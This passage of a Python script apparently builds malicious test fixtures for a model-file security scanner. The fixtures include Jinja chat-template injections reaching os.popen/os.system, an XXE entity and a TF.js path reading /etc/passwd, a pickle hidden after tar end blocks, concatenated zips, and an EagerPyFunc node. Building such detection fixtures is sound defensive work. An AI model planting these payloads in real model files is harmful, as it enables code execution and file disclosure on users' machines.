w("safetensors/index-names-pickle-shard/model.safetensors.index.json", json.dumps({"metadata": {"total_size": 4},
    "weight_map": {"w": "pytorch_model-00001.bin"}}))
w("safetensors/index-names-pickle-shard/config.json", json.dumps(cfg))

# HF chat templates in processor_config.json and chat_template.json
hfdir("processor-config-chat-template", {"config.json": cfg, "processor_config.json": {"processor_class": "P",
    "chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}})
hfdir("chat-template-json", {"config.json": cfg, "chat_template.json": {"chat_template": "{{ joiner.__init__.__globals__.os.system('id') }}"}})

# archives: a tar member hidden after the end-of-archive blocks, concatenated zips
b = tarbytes([(tarfile.TarInfo("README"), b"")])
ti = tarfile.TarInfo("evil.pkl"); ti.size = 4
w("archive/tar-after-eof-blocks.tar", b + tarbytes([(ti, b"\x80\x04N.")]))
w("archive/concatenated-zips.zip", zipbytes([("safe.txt", b"hello")]) + zipbytes([("evil.pkl", b"\x80\x04N.")]))

# TF.js weight path as a file: URL
w("tfjs/file-url-shard/model.json", json.dumps({"format": "graph-model", "modelTopology": {"node": []},
    "weightsManifest": [{"paths": ["file:///etc/passwd"], "weights": [{"name": "w", "shape": [1], "dtype": "float32"}]}]}))

# compiled code beside a model
w("hf/native-lib-beside-model/config.json", json.dumps(cfg))
w("hf/native-lib-beside-model/libcustom_ops.so", b"\x7fELF\x02\x01\x01\x00")

# formats no analyzer read before: PMML with XXE, Torch7, llamafile
w("pmml/xxe-external-entity.pmml", '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
  '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="&xxe;"/></PMML>\n')
w("other/torch7-lua-function.t7", struct.pack("<iii", 4, 1, 6) + struct.pack("<i", 8) + b"function")
w("other/llamafile-executable.llamafile", b"MZqFpD='\n" + b"\0" * 32)

# Keras 3 archive whose weights file reads its data from another file
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
    z.writestr("config.json", json.dumps(seq([dense()])))
    z.write(p("keras/h5-external-storage.h5"), "model.weights.h5")
w("keras/weights-h5-external-storage.keras", buf.getvalue())

# a SavedModel in text format (TensorFlow reads saved_model.pbtxt when saved_model.pb is absent)
w("tf/saved-model-pbtxt/saved_model.pbtxt", 'saved_model_schema_version: 1\nmeta_graphs {\n  meta_info_def { tags: "serve" }\n'
  '  graph_def {\n    node { name: "x" op: "Placeholder" attr { key: "dtype" value { type: DT_FLOAT } } }\n'
  '    node { name: "pf" op: "EagerPyFunc" attr { key: "token" value { s: "pyfunc_0" } } }\n  }\n}\n')
